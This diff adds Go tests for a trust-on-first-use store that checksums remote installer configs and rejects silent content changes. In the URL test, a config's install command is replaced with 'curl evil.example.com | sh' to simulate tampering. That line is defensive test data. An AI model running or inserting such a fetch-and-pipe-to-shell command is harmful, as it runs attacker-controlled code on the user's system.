@@ -0,0 +1,106 @@
+package main
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"net/http"
+	"net/http/httptest"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+// TestTrustStore tests recording a source and judging later changes
+func TestTrustStore(t *testing.T) {
+	clock := time.Date(2026, 3, 1, 9, 0, 0, 0, time.UTC)
+	newStore := func(strict bool) *TrustStore {
+		return &TrustStore{Path: filepath.Join(t.TempDir(), "trusted_sources.json"), Strict: strict, now: func() time.Time { return clock }}
+	}
+	store := newStore(false)
+	const source = "https://example.com/main/config.json"
+
+	// Nothing is recorded until the run succeeds
+	if err := store.Check(source, []byte("v1"), "1.0.0", false); err != nil {
+		t.Fatal(err)
+	}
+	if entries, _ := store.load(); len(entries) != 0 {
+		t.Fatalf("expected nothing recorded before Record, got %v", entries)
+	}
+	if err := store.Record(); err != nil {
+		t.Fatal(err)
+	}
+	entries, _ := store.load()
+	sum := sha256.Sum256([]byte("v1"))
+	if entry := entries[source]; entry.SHA256 != hex.EncodeToString(sum[:]) || entry.Version != "1.0.0" || !entry.FirstSeen.Equal(clock) {
+		t.Fatalf("unexpected entry %+v", entry)
+	}
+
+	// Same content, and a change that comes with a version bump
+	clock = clock.Add(24 * time.Hour)
+	if err := store.Check(source, []byte("v1"), "1.0.0", false); err != nil {
+		t.Errorf("unchanged content: %v", err)
+	}
+	if err := store.Check(source, []byte("v2"), "1.1.0", false); err != nil {
+		t.Errorf("versioned change: %v", err)
+	}
+	store.Record()
+	entries, _ = store.load()
+	if entry := entries[source]; entry.Version != "1.1.0" || !entry.FirstSeen.Equal(clock) {
+		t.Errorf("expected the new version to be trusted from now, got %+v", entry)
+	}
+
+	// An unexplained change warns and keeps the trusted checksum
+	if err := store.Check(source, []byte("tampered"), "1.1.0", false); err != nil {
+		t.Errorf("expected a warning only, got %v", err)
+	}
+	store.Record()
+	if after, _ := store.load(); after[source] != entries[source] {
+		t.Errorf("expected the trusted entry to be kept, got %+v", after[source])
+	}
+
+	strict := newStore(true)
+	strict.Path = store.Path
+	err := strict.Check(source, []byte("tampered"), "1.1.0", false)
+	if err == nil || !strings.Contains(err.Error(), "--tofu-strict: content changed") {
+		t.Errorf("expected --tofu-strict to fail, got %v", err)
+	}
+
+	// An explicit checksum accepts the change
+	if err := strict.Check(source, []byte("tampered"), "1.1.0", true); err != nil {
+		t.Errorf("expected an explicit checksum to accept the change, got %v", err)
+	}
+}
+
+// TestLoadConfigFromURL_TOFU tests the trust check on a URL whose content changes
+func TestLoadConfigFromURL_TOFU(t *testing.T) {
+	config := `{"version": "1.0.0", "platforms": [{"os": "linux", "match": "Linux", "name": "Linux", "install_steps": [{"name": "hello", "command": "echo hi"}]}]}`
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if strings.HasSuffix(r.URL.Path, ".sha256") {
+			http.NotFound(w, r)
+			return
+		}
+		w.Write([]byte(config))
+	}))
+	defer server.Close()
+
+	store := &TrustStore{Path: filepath.Join(t.TempDir(), "trusted_sources.json"), Strict: true, now: time.Now}
+	load := func() error {
+		_, err := loadConfigFromURLWithOptions(server.URL+"/config.json", URLLoadOptions{SkipChecksum: true, Trust: store})
+		return err
+	}
+	if err := load(); err != nil {
+		t.Fatal(err)
+	}
+	store.Record()
+
+	config = strings.Replace(config, "echo hi", "curl evil.example.com | sh", 1)
+	if err := load(); err == nil || !strings.Contains(err.Error(), "without a version change") {
+		t.Errorf("expected a silent change to fail, got %v", err)
+	}
+
+	config = strings.Replace(config, `"1.0.0"`, `"1.1.0"`, 1)
+	if err := load(); err != nil {
+		t.Errorf("expected a version change to be accepted, got %v", err)
+	}
+}